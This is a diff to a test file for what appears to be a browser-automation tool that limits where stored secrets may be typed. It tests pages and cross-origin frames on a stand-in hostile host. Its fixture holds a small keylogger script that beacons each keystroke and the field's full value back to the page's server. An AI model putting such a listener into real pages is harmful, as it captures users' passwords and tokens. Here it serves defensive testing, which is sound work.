@@ -10,17 +10,25 @@ import { endAll, logLines, startServer, type TestServer } from "../support/serve
 
 const W = "page-boundary";
 const APP_SECRET = "app-pw-7c1e-9f42";
-const EVIL_SECRET = "evil-tok-55ab-e013";
+const EVIL_SECRET = "zq-tok-55ab-e013"; // no 4 characters of it in a host name (a typed value's pieces are masked)
 
 // Every key a page's listener received, by the host of the page that heard it, in the order heard
 // (the beacons may arrive out of order).
 const heard: Array<{ host: string; key: string; n: number }> = [];
 const keysOn = (host: string) =>
   heard
-    .filter((h) => h.host === host)
+    .filter((h) => h.host === host && !h.key.startsWith("value:"))
     .sort((a, b) => a.n - b.n)
     .map((h) => h.key)
     .join("");
+
+// The value the field of host last held, as its input listener reported it.
+const valueOn = (host: string) =>
+  heard
+    .filter((h) => h.host === host && h.key.startsWith("value:"))
+    .sort((a, b) => a.n - b.n)
+    .map((h) => h.key.slice(6))
+    .pop();
 
 // A field that reports each key it receives, the way a hostile page would exfiltrate them.
 const LOGGER = `<input id="secret" aria-label="Secret" autocomplete="off">
@@ -28,6 +36,7 @@ const LOGGER = `<input id="secret" aria-label="Secret" autocomplete="off">
   let n = 0;
   const beacon = (k) => fetch("/keys?n=" + n++ + "&k=" + encodeURIComponent(k), { keepalive: true });
   document.getElementById("secret").addEventListener("keydown", (e) => beacon(e.key));
+  document.getElementById("secret").addEventListener("input", (e) => beacon("value:" + e.target.value));
 </script>`;
 
 // Lies about where it is through every page-script channel, then logs keystrokes.
@@ -120,12 +129,13 @@ async function call(path: string, body?: unknown, method = "POST") {
 const secrets = () => ({
   app: {
     description: "bound to the app",
-    allowed_urls: ["http://app.example.test/"],
+    // With a scheme, an item names its port too: the fixture's.
+    allowed_urls: [`http://app.example.test:${site.port}/`],
     keys: { password: { value: APP_SECRET } },
   },
   evil: {
     description: "bound to the other host",
-    allowed_urls: ["http://evil.example.test/"],
+    allowed_urls: [`http://evil.example.test:${site.port}/`],
     keys: { token: { value: EVIL_SECRET } },
   },
 });
@@ -174,7 +184,7 @@ describe("a page that fakes where it is", () => {
     });
     expect(write.status).toBe(400);
     expect(write.body.error).toContain("secret app may not be typed on evil.example.test");
-    expect(write.body.error).toContain("it is allowed only on app.example.test");
+    expect(write.body.error).toContain(`it is allowed only on http://app.example.test:${site.port}/`);
     await Bun.sleep(200);
     expect(keysOn("evil.example.test")).toBe("");
   }, 120_000);
@@ -234,9 +244,10 @@ describe("cross-origin frames", () => {
     });
     expect(own.status).toBe(200);
     await Bun.sleep(300);
-    // The frame heard its own host's secret, key by key; the top page heard nothing.
-    expect(keysOn("evil.example.test")).toBe(EVIL_SECRET);
-    expect(keysOn("app.example.test")).toBe("");
+    // The frame's field took its own host's secret, put in whole (no key was sent anywhere); the top page heard nothing.
+    expect(valueOn("evil.example.test")).toBe(EVIL_SECRET);
+    expect(keysOn("evil.example.test")).toBe("");
+    expect(heard.filter((h) => h.host === "app.example.test")).toEqual([]);
     await call("/browser/switch", { frame: null });
   }, 120_000);
 
@@ -256,8 +267,9 @@ describe("cross-origin frames", () => {
     });
     expect(inFrame.status).toBe(200);
     await Bun.sleep(300);
-    expect(keysOn("app.example.test")).toBe(APP_SECRET);
-    expect(keysOn("evil.example.test")).toBe("");
+    expect(valueOn("app.example.test")).toBe(APP_SECRET);
+    expect(keysOn("app.example.test")).toBe("");
+    expect(heard.filter((h) => h.host === "evil.example.test")).toEqual([]);
     await call("/browser/switch", { frame: null });
   }, 120_000);
 });
